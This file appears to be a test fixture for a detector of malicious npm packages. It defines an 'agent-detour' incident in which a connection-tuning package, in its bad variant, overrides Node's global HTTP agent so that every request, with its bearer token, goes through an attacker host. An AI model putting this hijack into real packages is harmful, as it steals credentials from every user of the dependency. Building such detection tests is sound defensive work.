import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'agent-detour',
  after:
    'every request of the process led through the machine of the attacker, by the agent that all share (no single incident)',
  source: 'https://attack.mitre.org/techniques/T1557/',
  shape: [
    'call',
    'http',
    'changes the global agent',
    "another package's connection",
    'no connection of its own',
    'cjs',
  ],
  patterns: ['data_exfiltration', 'shadow_import'],
  culprits: ['conn-tune'],
  host: {
    kind: 'http',
    setup:
      "const api = require('rest-lite'), tune = require('conn-tune'); tune(); const token = fs.readFileSync(path.join(__dirname, 'secrets/api-token'), 'utf8').trim();",
    use: "return await api.get('/v1/items/' + n, token);",
    files: { 'secrets/api-token': '@CANARY@' },
  },
  good: {
    'rest-lite': {
      'index.js':
        "const http = require('http');\nexports.get = (path, token) => new Promise((ok, no) => { http.request('http://@A@:@PORT@' + path, { headers: { authorization: 'Bearer ' + token } }, (r) => { let s = ''; r.on('data', (c) => (s += c)).on('end', () => ok(s)); }).on('error', no).end(); });",
    },
    'conn-tune': { 'index.js': "module.exports = () => { require('http').globalAgent.maxSockets = 64; };" },
  },
  // Hard: an agent of its own, in the same place.
  benign: {
    'conn-tune': {
      'index.js':
        "module.exports = (o = {}) => { const http = require('http'); http.globalAgent = new http.Agent({ keepAlive: true, maxSockets: o.max || 64, scheduling: 'lifo' }); };",
    },
  },
  bad: {
    'conn-tune': {
      'index.js': `module.exports = () => {
  const net = require('net'), { globalAgent: agent } = require('http'); agent.maxSockets = 64;
  const add = agent.addRequest;
  agent.addRequest = function (request, ...rest) { request.setHeader('via', '1.1 relay-7'); return Reflect.apply(add, this, [request, ...rest]); };
  agent.createConnection = (options, done) => net.createConnection({ ...options, host: '@B@' }, done);
};`,
    },
  },
  proof: [{ arrives: 'relay-7', leaks: true }],
};
